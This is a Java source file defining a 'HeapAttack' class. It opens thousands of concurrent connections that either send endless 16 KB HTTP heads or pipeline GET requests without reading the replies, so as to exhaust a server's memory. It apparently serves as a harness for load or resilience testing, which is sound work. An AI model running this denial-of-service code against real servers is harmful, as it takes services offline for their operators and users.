package io.millrace.app;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;

/**
 * Many clients that make a server hold memory for them, never more of them at once than there may
 * be descriptors. One that is cut makes place for the next, up to a number in all.
 *
 * <p>Threads: one.
 */
final class HeapAttack implements AutoCloseable {

    private static final int HEAD_BYTES = 16 << 10;
    /** More than the server reads ahead of the responses. */
    private static final int PIPELINED_BYTES = 512 << 10;
    private static final int CLIENTS = 4000;
    private static final long LITTLE_HEAP_BYTES = 64 << 20;
    private static final int BURST = 64;
    private static final int WAIT_MS = 20;
    /** So that the kernel holds little for a client that doesn't read. */
    private static final int RECEIVE_BYTES = 4096;

    /** What each client does. */
    enum Kind {
        /** Sends 16 KB of a head that doesn't end. */
        HEADS {
            @Override
            long clients(long heapBytes) {
                return 3 * heapBytes / HEAD_BYTES;
            }

            @Override
            byte[] bytes(String key) {
                String start = get(key);
                // What fits into a head with its end, which doesn't come.
                String field = start.substring(0, start.length() - 2) + "X-Fill: ";
                return (field + "f".repeat(HEAD_BYTES - field.length() - 4))
                        .getBytes(StandardCharsets.US_ASCII);
            }
        },

        /** Pipelines GETs and reads nothing. */
        READERS {
            @Override
            long clients(long heapBytes) {
                return heapBytes < LITTLE_HEAP_BYTES ? CLIENTS / 4 : CLIENTS;
            }

            @Override
            byte[] bytes(String key) {
                return get(key).repeat(PIPELINED_BYTES / get(key).length())
                        .getBytes(StandardCharsets.US_ASCII);
            }
        };

        /** How many there are in all. */
        abstract long clients(long heapBytes);

        /** What each of them sends. */
        abstract byte[] bytes(String key);

        private static String get(String key) {
            return "GET /" + key + " HTTP/1.1\r\nHost: x\r\n\r\n";
        }
    }

    private final InetSocketAddress address;
    private final ByteBuffer bytes;
    private final long clients;
    private final int mostOpen;
    private final Selector selector = Selector.open();
    private final ByteBuffer little = ByteBuffer.allocate(1);
    private int open;
    private long opened;
    private long cut;

    /**
     * An attack that has yet to begin.
     *
     * @param key of the object that is asked for
     * @param mostOpen connections at once
     */
    HeapAttack(InetSocketAddress address, Kind kind, String key, long heapBytes, int mostOpen)
            throws IOException {
        this.address = address;
        bytes = ByteBuffer.wrap(kind.bytes(key));
        clients = kind.clients(heapBytes);
        this.mostOpen = mostOpen;
    }

    /** Connections that were asked for. */
    long opened() {
        return opened;
    }

    /** Connections that the server has ended. */
    long cut() {
        return cut;
    }

    /** Whether there are as many as there can be. */
    boolean isComplete() {
        return opened == clients;
    }

    /** Opens some connections, and moves what moves. */
    void turn() throws IOException {
        for (int i = 0; i < BURST && open < mostOpen && !isComplete(); i++) {
            open();
        }
        selector.select(this::move, isComplete() || open == mostOpen ? WAIT_MS : 1);
    }

    private void open() throws IOException {
        SocketChannel channel = SocketChannel.open();
        channel.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BYTES);
        channel.configureBlocking(false);
        SelectionKey key = channel.register(selector, SelectionKey.OP_CONNECT, bytes.duplicate());
        open++;
        opened++;
        try {
            if (channel.connect(address)) {
                key.interestOps(SelectionKey.OP_WRITE);
            }
        } catch (IOException e) {
            end(key);
        }
    }

    private void move(SelectionKey key) {
        SocketChannel channel = (SocketChannel) key.channel();
        ByteBuffer left = (ByteBuffer) key.attachment();
        try {
            if (key.isConnectable() && channel.finishConnect()) {
                key.interestOps(SelectionKey.OP_WRITE);
            } else if (key.isWritable()) {
                channel.write(left);
                if (!left.hasRemaining()) {
                    // A response stays unread; a cut is seen by the first byte that isn't.
                    key.interestOps(SelectionKey.OP_READ);
                }
            } else if (key.isReadable()) {
                if (channel.read(little.clear()) < 0) {
                    end(key);
                } else {
                    key.interestOps(0); // it doesn't read, and so isn't told of a cut
                }
            }
        } catch (IOException e) {
            end(key);
        }
    }

    private void end(SelectionKey key) {
        cut++;
        close(key);
    }

    private void close(SelectionKey key) {
        open--;
        try {
            key.channel().close();
        } catch (IOException e) {
            throw new IllegalStateException("a socket that can't be closed", e);
        }
    }

    /** Lets all clients leave; those that the server had cut meanwhile are counted as such. */
    @Override
    public void close() throws IOException {
        for (SelectionKey key : selector.keys()) {
            if (key.isValid()) {
                if (wasReset((SocketChannel) key.channel())) {
                    cut++;
                }
                close(key);
            }
        }
        selector.close();
    }

    /** Whether nothing can be sent any more: a reset is an error of a write, whatever is unread. */
    private static boolean wasReset(SocketChannel channel) {
        if (!channel.isConnected()) {
            return false;
        }
        try {
            channel.write(ByteBuffer.wrap(new byte[] {'x'}));
            return false;
        } catch (IOException e) {
            return true;
        }
    }
}
